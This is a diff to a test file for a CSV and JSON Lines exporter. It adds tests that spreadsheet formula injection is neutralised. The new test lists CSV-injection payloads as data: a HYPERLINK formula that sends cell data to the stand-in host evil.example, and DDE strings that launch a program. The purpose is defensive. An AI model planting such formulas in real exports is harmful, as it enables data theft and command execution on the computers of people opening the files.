@@ -48,9 +48,12 @@ describe('CSV and JSON Lines', () => {
     expect(header).toEqual([...CSV_COLUMNS]);
     const expected = await allRows(engine, db);
     expect(records).toHaveLength(expected.length);
-    const cell = (v: string | number | null) => (v === null ? '' : String(v));
+    // Text a spreadsheet would run as a formula comes back with a leading ' (numbers as they are).
+    const cell = (v: string | number | null) => (v === null ? '' : typeof v === 'string' && /^[=+\-@\t\r]/.test(v) ? `'${v}` : String(v));
     expect(records).toEqual(expected.map((r) => [r.id, r.timestamp, r.process, r.group, r.data, r.dataType, r.dataValue, r.status, r.exception, r.traceId, r.spanId, r.parentSpanId, r.durationMs, r.memoryDelta].map(cell)));
     expect(records[5][6]).toHaveLength(5000); // whole, not the list's 2,000 characters
+    expect(records[6][6]).toBe("'=1+2");
+    expect(records[2][13]).toBe('-512'); // a negative number stays a number
   });
 
   it('JSON Lines has one line per row the filter counts, across many pages', async () => {
@@ -66,6 +69,22 @@ describe('CSV and JSON Lines', () => {
       expect(new Set(parsed.map((p) => p.id)).size).toBe(count);
       for (let i = 1; i < parsed.length; i++) expect(parsed[i].ts).toBeGreaterThanOrEqual(parsed[i - 1].ts);
     }
+  });
+});
+
+describe('CSV injection', () => {
+  it('neutralises every cell a spreadsheet would run as a formula, whatever column holds it', async () => {
+    // What an attacker whose input gets traced would plant: formulas that call out or run commands.
+    const attacks = ['=HYPERLINK("http://evil.example/?"&A1,"click")', '+cmd|\' /C calc\'!A0', '-2+3+cmd|\' /C calc\'!A0', '@SUM(1+1)*cmd|\' /C calc\'!A0', '\t=1+1', '\r=1+1'];
+    const rows = attacks.map((a, i) => ({ ...sampleRows(1)[0], process: `app.${i}`, data: a, data_value: a, exception: a, status: 'ERROR' }));
+    const path = createTraceDb({ rows: [...rows, { ...sampleRows(1)[0], process: '=cmd|calc', data: 'safe', data_value: '-5' }] });
+    const db = await openLive(engine, path);
+    const [, ...records] = parseCsv(await exportText(engine, { db, format: 'csv' }));
+    const text = records.flat().filter((c) => c !== '');
+    for (const c of text) expect(c).not.toMatch(/^[=+\-@\t\r]/);
+    const byProcess = new Map(records.map((r) => [r[2], r]));
+    attacks.forEach((a, i) => expect(byProcess.get(`app.${i}`)!.slice(4, 9)).toEqual([`'${a}`, expect.any(String), `'${a}`, 'ERROR', `'${a}`]));
+    expect(byProcess.get("'=cmd|calc")![6]).toBe("'-5"); // a text value, even a numeric-looking one, is text
   });
 });
 
